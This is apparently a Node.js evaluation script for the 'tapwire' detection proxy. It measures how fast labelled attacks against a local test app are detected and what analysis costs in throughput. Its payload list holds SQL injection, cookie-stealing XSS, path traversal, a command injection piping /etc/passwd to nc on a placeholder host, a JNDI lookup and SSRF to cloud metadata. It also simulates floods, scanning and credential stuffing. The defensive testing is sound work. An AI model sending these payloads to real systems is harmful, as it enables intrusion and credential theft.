// `npm run eval:detect`: drives the real proxy (tapwire built in dist/, a child process, default detector
// thresholds) with a realistic benign mix and then with labelled attacks, and reports per attack the time to
// detection, the findings raised on benign traffic, and the primary's throughput with analysis on against off
// (wrk, alternating phases). A script, not a test: it prints a Markdown report and exits 0 (1 if it could
// not run).
//
//   npm run build && npm run eval:detect          BENIGN=100000 RATE=1200 REPS=5 DURATION=8 PARTS=detection,throughput CPUS=
import { execFile, execFileSync, spawn, type ChildProcess } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { promisify } from 'node:util';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';

const ROOT = new URL('..', import.meta.url).pathname;
const env = process.env;
const BENIGN = Number(env.BENIGN ?? 100_000);
const RATE = Number(env.RATE ?? 1200);
const REPS = Number(env.REPS ?? 5);
/**
 * CPUS=1: the throughput part runs tapwire, wrk and the application (this process) on these CPUs (taskset), as
 * `npm run bench` does. Unset: unpinned. Measured once each (REPS=7): pinned 0.802× (req/s) / 0.749× (CPU), unpinned
 * 0.807× / 0.788×; pinning did not make the repetitions steadier on this VM.
 */
const CPUS = env.CPUS ?? '';
/** which parts run: detection (benign + attacks), throughput (analysis on against off) */
const PARTS = new Set((env.PARTS ?? 'detection,throughput').split(','));
const DURATION = Number(env.DURATION ?? 8);
const TOKEN = 'eval-detect-token-0123456789';

// ---------------------------------------------------------------- the application behind tapwire
function startApp(): Promise<http.Server> {
  const server = http.createServer({ keepAliveTimeout: 60_000 }, (req, res) => {
    let body = '';
    req.setEncoding('utf8');
    req.on('data', (c: string) => (body += c.length < 4096 ? c : ''));
    req.on('end', () => {
      const url = new URL(req.url ?? '/', 'http://x');
      const send = (status: number, text: string) => {
        res.writeHead(status, { 'content-type': 'application/json', 'content-length': Buffer.byteLength(text) });
        res.end(text);
      };
      if (url.pathname === '/login') return send(body.includes('"password":"correct horse"') ? 200 : 401, '{}');
      if (url.pathname.startsWith('/api/') && !url.pathname.includes('missing')) return send(200, '{"ok":true,"items":[1,2,3]}');
      if (url.pathname === '/' || url.pathname.startsWith('/static/')) return send(200, '{"page":true}');
      send(404, '{"error":"not found"}');
    });
  });
  return new Promise((r) => server.listen(0, '127.0.0.1', () => r(server)));
}

// ---------------------------------------------------------------- tapwire as a child process
interface Tapwire {
  child: ChildProcess;
  port: number;
  adminPort: number;
}

async function startTapwire(dir: string, appPort: number, analyze: boolean, cpus = ''): Promise<Tapwire> {
  const file = join(dir, `tapwire-${analyze ? 'on' : 'off'}.yaml`);
  writeFileSync(
    file,
    `listen: 127.0.0.1:0
admin: { listen: 127.0.0.1:0, token: ${TOKEN} }
log: { level: error }
trustedProxies: [127.0.0.1/32]
storage: sqlite:${join(dir, `eval-${analyze ? 'on' : 'off'}-${Date.now()}.db`)}
upstreams:
  app: { url: http://127.0.0.1:${appPort}, maxConnections: 128 }
routes:
  - name: site
    primary: app
    analyze: ${analyze}
`,
  );
  const argv = [process.execPath, join(ROOT, 'dist/cli/main.js'), 'run', '-c', file];
  const child = cpus ? spawn('taskset', ['-c', cpus, ...argv], { stdio: ['ignore', 'pipe', 'pipe'] }) : spawn(argv[0]!, argv.slice(1), { stdio: ['ignore', 'pipe', 'pipe'] });
  let out = '';
  child.stdout.on('data', (d: Buffer) => (out += d.toString()));
  child.stderr.on('data', (d: Buffer) => (out += d.toString()));
  const m = await new Promise<RegExpExecArray>((resolve, reject) => {
    const timer = setInterval(() => {
      const r = /proxy on [\d.]+:(\d+), admin on http:\/\/[\d.]+:(\d+)/.exec(out);
      if (r) {
        clearInterval(timer);
        resolve(r);
      }
    }, 50);
    child.once('exit', (code) => {
      clearInterval(timer);
      reject(new Error(`tapwire exited (${code}): ${out}`));
    });
  });
  return { child, port: Number(m[1]), adminPort: Number(m[2]) };
}

async function stop(tw: Tapwire): Promise<void> {
  tw.child.kill('SIGTERM');
  await new Promise((r) => tw.child.once('exit', r));
}

// ---------------------------------------------------------------- traffic
const agent = new http.Agent({ keepAlive: true, maxSockets: 64 });
let port = 0;

function send(source: string, method: string, path: string, opts: { body?: string; ua?: string; headers?: Record<string, string> } = {}): Promise<number> {
  return new Promise((resolve) => {
    const headers: Record<string, string> = { 'x-forwarded-for': source, 'user-agent': opts.ua ?? UAS[0]!, ...opts.headers };
    if (opts.body !== undefined) {
      headers['content-type'] = 'application/json';
      headers['content-length'] = String(Buffer.byteLength(opts.body));
    }
    const req = http.request({ host: '127.0.0.1', port, method, path, headers, agent }, (res) => {
      res.resume();
      res.on('end', () => resolve(res.statusCode ?? 0));
    });
    req.on('error', () => resolve(0));
    req.end(opts.body);
  });
}

const UAS = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.6 Safari/605.1.15',
  'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0',
  'curl/8.5.0',
  'python-requests/2.32.3',
  'okhttp/4.12.0',
];
const NAMES = ["O'Brien", 'Zoë Dupont', 'Renée', 'Ana-María', 'José', 'D\'Angelo', 'Smith & Sons', 'A "quoted" name'];
const ENDPOINTS = Array.from({ length: 45 }, (_, i) => `/api/${['users', 'orders', 'items', 'carts', 'reviews', 'search', 'profile', 'prices', 'stock'][i % 9]}${i >= 9 ? `/v${i % 5}` : ''}`);

let rng = 42;
const rand = (): number => ((rng = (rng * 1103515245 + 12345) % 2 ** 31) / 2 ** 31);
const pick = <T>(xs: readonly T[]): T => xs[Math.floor(rand() * xs.length)]!;

/** One benign request of a realistic mix: mostly API reads with ids and queries, some writes, ~1% 404, ~0.5% failed logins. */
function benign(source: string, ua: string): Promise<number> {
  const r = rand();
  if (r < 0.01) return send(source, 'GET', `/api/missing-${Math.floor(rand() * 50)}`, { ua });
  if (r < 0.015) return send(source, 'POST', '/login', { ua, body: JSON.stringify({ user: `user${Math.floor(rand() * 500)}`, password: rand() < 0.5 ? 'correct horse' : 'typo' }) });
  if (r < 0.1) return send(source, 'POST', pick(ENDPOINTS), { ua, body: JSON.stringify({ name: pick(NAMES), note: 'Don\'t ship before "Monday" <3', url: 'https://example.com/a?b=1', qty: Math.floor(rand() * 9) }) });
  if (r < 0.25) return send(source, 'GET', `${pick(ENDPOINTS)}?q=${encodeURIComponent(pick(NAMES))}&page=${Math.floor(rand() * 5)}&next=${encodeURIComponent('https://example.com/list?x=1')}`, { ua });
  if (r < 0.3) return send(source, 'GET', `/static/app.${Math.floor(rand() * 9)}.js`, { ua });
  return send(source, 'GET', `${pick(ENDPOINTS)}/${Math.floor(rand() * 100000)}`, { ua });
}

/** Sends `total` benign requests from `sources` sources at about `rate` req/s. */
async function benignLoad(total: number, rate: number, sources: number, stopAt?: () => boolean): Promise<void> {
  const start = Date.now();
  const clients = Array.from({ length: sources }, (_, i) => ({ source: `10.${1 + (i >> 8)}.${i & 255}.${7 + (i % 3)}`, ua: UAS[i % UAS.length]! }));
  let sent = 0;
  const workers = Math.min(48, Math.max(4, Math.round(rate / 25)));
  await Promise.all(
    Array.from({ length: workers }, async () => {
      while (sent < total && !(stopAt?.() ?? false)) {
        const n = sent++;
        // paced: request n is due at start + n / rate
        const due = start + (n * 1000) / rate;
        const wait = due - Date.now();
        if (wait > 1) await new Promise((r) => setTimeout(r, wait));
        const c = clients[Math.floor(rand() * clients.length)]!;
        await benign(c.source, c.ua);
      }
    }),
  );
}

async function findings(adminPort: number): Promise<Array<{ detector: string; key: string; firstSeen: number; title: string; detail: Record<string, unknown> }>> {
  return new Promise((resolve) => {
    http
      .get({ host: '127.0.0.1', port: adminPort, path: '/api/v1/findings?state=all&limit=500', headers: { authorization: `Bearer ${TOKEN}` }, agent: false }, (res) => {
        let b = '';
        res.on('data', (c: Buffer) => (b += c.toString()));
        res.on('end', () => resolve((JSON.parse(b) as { findings: [] }).findings ?? []));
      })
      .on('error', () => resolve([]));
  });
}

interface Attack {
  readonly name: string;
  readonly match: (f: { detector: string; key: string; detail: Record<string, unknown> }) => boolean;
  /** runs until stopped; returns when done or stopped */
  readonly run: (stopped: () => boolean) => Promise<void>;
}

const loop = async (stopped: () => boolean, perSecond: number, fn: (i: number) => Promise<unknown>, parallel = 1): Promise<void> => {
  let i = 0;
  const start = Date.now();
  await Promise.all(
    Array.from({ length: parallel }, async () => {
      while (!stopped()) {
        const n = i++;
        const wait = start + (n * 1000) / perSecond - Date.now();
        if (wait > 1) await new Promise((r) => setTimeout(r, wait));
        await fn(n);
      }
    }),
  );
};

const PAYLOADS: ReadonlyArray<readonly [string, string, string, { body?: string; ua?: string; method?: string }]> = [
  ['injection: SQL', 'sqli', `/api/search?q=${encodeURIComponent("' OR 1=1 UNION SELECT password FROM users--")}`, {}],
  ['injection: XSS', 'xss', `/api/search?q=${encodeURIComponent('<script>alert(document.cookie)</script>')}`, {}],
  // (a traversal in the path itself never gets this far: tapwire answers 400 to dot-segments and %2F in paths)
  ['injection: path traversal', 'traversal', `/api/files?name=${encodeURIComponent('../../../../etc/passwd')}`, {}],
  ['injection: command', 'cmdi', `/api/items?file=${encodeURIComponent('x; cat /etc/passwd | nc 203.0.113.9 4444')}`, {}],
  ['injection: JNDI', 'jndi', '/api/items', { body: JSON.stringify({ name: '${jndi:ldap://203.0.113.9/a}' }) }],
  ['injection: SSRF to metadata', 'ssrf', `/api/items?url=${encodeURIComponent('http://169.254.169.254/latest/meta-data/iam/security-credentials/')}`, {}],
  ['scanner user agent', 'scanner', '/api/items/1', { ua: 'sqlmap/1.8.2#stable (https://sqlmap.org)' }],
  ['unusual method', 'method', '/api/items/1', { method: 'TRACE' }],
];

function attacks(): Attack[] {
  const list: Attack[] = [
    {
      name: 'single-source flood',
      match: (f) => f.detector === 'flood' && f.key.includes('192.0.2.66'),
      run: (stopped) => loop(stopped, 900, () => send('192.0.2.66', 'GET', '/api/items/1'), 24),
    },
    {
      name: 'distributed flood',
      match: (f) => (f.detector === 'flood' || f.detector === 'rate_spike') && f.detail.kind === 'distributed',
      run: (stopped) => loop(stopped, 1800, (n) => send(`192.0.2.${100 + (n % 120)}`, 'GET', `/api/items/${n % 1000}`), 40),
    },
    {
      name: 'path scanner',
      match: (f) => f.detector === 'scan' && f.key.includes('192.0.2.77'),
      run: (stopped) => loop(stopped, 40, (n) => send('192.0.2.77', 'GET', `/${['admin', '.git/config', 'wp-admin', 'backup.zip', 'server-status', '.env'][n % 6]}${n}`, { ua: UAS[3] })),
    },
    {
      name: 'credential stuffing',
      match: (f) => f.detector === 'credential_stuffing' && f.key.includes('192.0.2.88'),
      run: (stopped) => loop(stopped, 20, (n) => send('192.0.2.88', 'POST', '/login', { body: JSON.stringify({ user: `victim${n}@example.com`, password: `Summer${n}!` }) })),
    },
  ];
  for (const [name, category, path, o] of PAYLOADS) {
    const source = `192.0.2.${200 + list.length}`;
    list.push({
      name,
      match: (f) => f.detector === 'signature' && f.key.includes(source) && f.detail.category === category,
      run: (stopped) => loop(stopped, 2, () => send(source, o.method ?? (o.body ? 'POST' : 'GET'), path, { ...(o.body ? { body: o.body } : {}), ...(o.ua ? { ua: o.ua } : {}) })),
    });
  }
  return list;
}

/** wrk in a child process, awaited: the application under test runs in this process and must keep answering. */
async function wrk(url: string, seconds: number, cpus = ''): Promise<{ rps: number; requests: number }> {
  const args = ['-t1', '-c50', `-d${seconds}s`, url];
  const { stdout } = await promisify(execFile)(cpus ? 'taskset' : 'wrk', cpus ? ['-c', cpus, 'wrk', ...args] : args, { encoding: 'utf8' });
  return { rps: Number(/Requests\/sec:\s+([\d.]+)/.exec(stdout)?.[1] ?? NaN), requests: Number(/(\d+) requests in/.exec(stdout)?.[1] ?? NaN) };
}

/** CPU seconds (user + system, every thread) a process used so far, from /proc (Linux). */
function cpuSeconds(pid: number): number {
  const fields = readFileSync(`/proc/${pid}/stat`, 'utf8').replace(/^.*\) /, '').split(' ');
  // after "pid (comm) ": state is field 3, utime 14 and stime 15 (1-based), so indexes 11 and 12 here
  return (Number(fields[11]) + Number(fields[12])) / 100;
}

const median = (xs: number[]): number => {
  const s = [...xs].sort((a, b) => a - b);
  return s.length % 2 ? s[(s.length - 1) / 2]! : (s[s.length / 2 - 1]! + s[s.length / 2]!) / 2;
};

async function main(): Promise<void> {
  const dir = mkdtempSync(join(tmpdir(), 'tapwire-eval-'));
  const app = await startApp();
  const appPort = (app.address() as AddressInfo).port;
  const lines: string[] = [];
  const log = (s: string) => {
    lines.push(s);
    console.log(s);
  };
  try {
    if (PARTS.has('detection')) await detection(dir, appPort, log);
    if (PARTS.has('throughput')) await throughput(dir, appPort, log);
  } finally {
    agent.destroy();
    app.close();
    rmSync(dir, { recursive: true, force: true });
  }
}

async function detection(dir: string, appPort: number, log: (s: string) => void): Promise<void> {
  // 1. benign traffic, then attacks, against tapwire with analysis on (default thresholds)
  const tw = await startTapwire(dir, appPort, true);
  port = tw.port;
  const t0 = Date.now();
  console.error(`eval: ${BENIGN} benign requests at ~${RATE} req/s from 40 sources ...`);
  await benignLoad(BENIGN, RATE, 40);
  const benignSeconds = (Date.now() - t0) / 1000;
  await new Promise((r) => setTimeout(r, 2500));
  const benignFindings = await findings(tw.adminPort);
  log(`## Detection (npm run eval:detect, ${new Date().toISOString().slice(0, 10)})\n`);
  log(`Benign: ${BENIGN.toLocaleString('en')} requests in ${benignSeconds.toFixed(0)} s (${(BENIGN / benignSeconds).toFixed(0)} req/s, 40 sources, 45 endpoints, ~1% 404, ~0.5% failed logins, realistic user agents and bodies): **${benignFindings.length} findings**${benignFindings.length ? `: ${benignFindings.map((f) => `${f.detector} ${f.key}`).join('; ')}` : ''}.\n`);

  // background traffic keeps flowing at a lower rate during the attacks
  let attacksDone = false;
  const background = benignLoad(Number.MAX_SAFE_INTEGER, 200, 40, () => attacksDone);
  await new Promise((r) => setTimeout(r, 5000));
  log('| attack | detected | time to detection | finding |');
  log('|---|---|---|---|');
  for (const a of attacks()) {
    const start = Date.now();
    let stopped = false;
    const running = a.run(() => stopped);
    let hit: { firstSeen: number; title: string } | undefined;
    while (!hit && Date.now() - start < 15_000) {
      await new Promise((r) => setTimeout(r, 200));
      hit = (await findings(tw.adminPort)).find((f) => a.match(f) && f.firstSeen >= start - 1000);
    }
    stopped = true;
    await running;
    log(`| ${a.name} | ${hit ? 'yes' : '**no**'} | ${hit ? `${((hit.firstSeen - start) / 1000).toFixed(1)} s` : '> 15 s'} | ${hit ? hit.title.replace(/\|/g, '\\|') : ''} |`);
    // let a flood's rate leave the windows before the next attack
    await new Promise((r) => setTimeout(r, a.name.includes('flood') ? 8000 : 1500));
  }
  attacksDone = true;
  await background;
  await stop(tw);
}

/**
 * 2. throughput with analysis on against off: alternating phases, each a fresh tapwire; per phase wrk's req/s and
 * tapwire's own CPU per request (all its threads, from /proc), the steadier figure on a shared machine.
 */
async function throughput(dir: string, appPort: number, log: (s: string) => void): Promise<void> {
  if (CPUS) execFileSync('taskset', ['-a', '-p', '-c', CPUS, String(process.pid)], { stdio: 'ignore' });
  log(`\n## Throughput, analysis on vs off (wrk -t1 -c50, GET, alternating${CPUS ? `; tapwire, wrk and the application pinned to CPU ${CPUS}` : ''})\n`);
  const on: { rps: number; cpu: number }[] = [];
  const off: { rps: number; cpu: number }[] = [];
  for (let rep = 1; rep <= REPS; rep++) {
    for (const analyze of rep % 2 ? [false, true] : [true, false]) {
      const t = await startTapwire(dir, appPort, analyze, CPUS);
      const url = `http://127.0.0.1:${t.port}/api/items/42?q=shoes`;
      await wrk(url, 2, CPUS);
      const before = cpuSeconds(t.child.pid!);
      const r = await wrk(url, DURATION, CPUS);
      const cpu = ((cpuSeconds(t.child.pid!) - before) * 1e6) / r.requests;
      (analyze ? on : off).push({ rps: r.rps, cpu });
      await stop(t);
      console.error(`eval: rep ${rep} analysis ${analyze ? 'on ' : 'off'} ${r.rps.toFixed(0)} req/s, tapwire ${cpu.toFixed(1)} µs CPU per request`);
    }
  }
  const ratios = on.map((r, i) => r.rps / off[i]!.rps);
  const cpuRatios = on.map((r, i) => off[i]!.cpu / r.cpu);
  log(`analysis off: ${off.map((r) => r.rps.toFixed(0)).join(', ')} req/s; on: ${on.map((r) => r.rps.toFixed(0)).join(', ')} req/s; on/off median of per-repetition ratios **${median(ratios).toFixed(3)}×** (target >= 0.95×)`);
  log(`tapwire CPU per request: off ${off.map((r) => r.cpu.toFixed(1)).join(', ')} µs; on ${on.map((r) => r.cpu.toFixed(1)).join(', ')} µs; median ${median(off.map((r) => r.cpu)).toFixed(1)} against ${median(on.map((r) => r.cpu)).toFixed(1)} µs: the throughput tapwire's CPU allows with analysis on is **${median(cpuRatios).toFixed(3)}×** that without (median of per-repetition ratios)`);
}

main().then(
  () => process.exit(0),
  (err: unknown) => {
    console.error(err);
    process.exit(1);
  },
);
